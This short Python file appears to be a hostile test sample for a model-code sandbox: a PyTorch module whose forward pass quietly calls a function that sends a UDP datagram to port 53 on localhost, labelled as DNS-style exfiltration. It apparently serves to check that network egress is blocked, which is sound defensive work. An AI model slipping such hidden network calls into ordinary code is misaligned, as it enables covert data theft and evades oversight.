# Hostile: send a datagram out (DNS-style exfiltration needs no connection).
import socket

import torch
import torch.nn as nn


def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"kbp-hostile", ("127.0.0.1", 53))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        attack()
        return torch.relu(x)
